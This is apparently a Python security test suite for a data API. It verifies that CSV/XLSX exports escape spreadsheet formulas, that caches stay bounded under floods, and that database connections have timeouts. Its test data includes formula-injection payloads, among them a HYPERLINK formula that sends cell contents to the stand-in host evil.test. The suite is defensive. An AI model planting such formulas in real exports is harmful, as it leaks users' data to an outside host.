"""Exports that cannot carry live formulas, and memory that hostile clients cannot grow: the response cache,
the API-key cache, and the pool's connections (statement and idle-in-transaction timeouts)."""

from __future__ import annotations

import csv
import io
import secrets

from fastapi.testclient import TestClient

from tests.api.conftest import DAY0, window
from tests.security.conftest import V1, make_app

FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1)', "+1+2", "-3+4", "@SUM(1)", "\tcmd")


def _plant_uploads(database_url: str) -> None:
    from infra import db

    with db.connect(database_url) as conn:
        for n, name in enumerate(FORMULAS):
            conn.execute(
                """INSERT INTO ops.uploads (org_id, file_name, sha256, size_bytes, format, status, dataset,
                       rows_read, rows_landed, rows_quarantined, created_at)
                   VALUES ('org_a', %s, %s, 1, 'csv', 'landed', 'prices', 0, 0, 0, %s)
                   ON CONFLICT DO NOTHING""",
                (name, f"formula_{n}", DAY0),
            )


def test_csv_and_xlsx_exports_neutralize_formulas(client, auth, security_settings):
    from openpyxl import load_workbook

    _plant_uploads(security_settings.database_url)
    headers = auth("org_a", "analyst")
    resp = client.get(f"{V1}/uploads", params={"format": "csv"}, headers=headers)
    assert resp.status_code == 200, resp.text
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    names = {r["file_name"] for r in rows}
    assert {"'" + f for f in FORMULAS} <= names
    assert not any(n.startswith(("=", "+", "-", "@", "\t")) for n in names)

    resp = client.get(f"{V1}/uploads", params={"format": "xlsx"}, headers=headers)
    assert resp.status_code == 200
    sheet = load_workbook(io.BytesIO(resp.content)).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    col = header.index("file_name")
    cells = [row[col] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for c in cells)
    assert {"'" + f for f in FORMULAS} <= {c.value for c in cells}


def test_unknown_api_key_flood_is_bounded_in_memory(security_settings):
    with TestClient(make_app(security_settings, api_key_cache_max_entries=50)) as c:
        for _ in range(200):
            key = f"obk_{secrets.token_hex(6)}_{secrets.token_urlsafe(8)}"
            assert c.get(f"{V1}/zones", headers={"X-API-Key": key}).status_code == 401
        assert len(c.app.state.api.api_keys) <= 50


def test_response_cache_is_bounded_by_bytes(security_settings, auth):
    budget = 64 * 1024
    with TestClient(make_app(security_settings, cache_max_bytes=budget)) as c:
        cache = c.app.state.api.cache
        # 40 distinct immutable reads (one per page size) of ~2.5 kB each: more than the budget holds.
        for limit in range(1, 41):
            resp = c.get(
                f"{V1}/prices",
                params={"zone": "PJM", "limit": 1000 - limit, "fields": "ts_utc,price_avg", **window()},
                headers=auth("org_a", "viewer"),
            )
            assert resp.status_code == 200, resp.text
            assert resp.headers["x-cache"] == "miss"
        assert 0 < cache.bytes <= budget
        assert 0 < len(cache._entries) < 40


def test_pooled_connections_have_statement_and_idle_timeouts(client):
    pool = client.app.state.api.pool

    async def show() -> tuple[str, str]:
        async with pool.connection() as conn:
            a = (await (await conn.execute("SHOW statement_timeout")).fetchone())[0]
            b = (await (await conn.execute("SHOW idle_in_transaction_session_timeout")).fetchone())[0]
            return a, b

    assert client.portal.call(show) == ("15s", "30s")
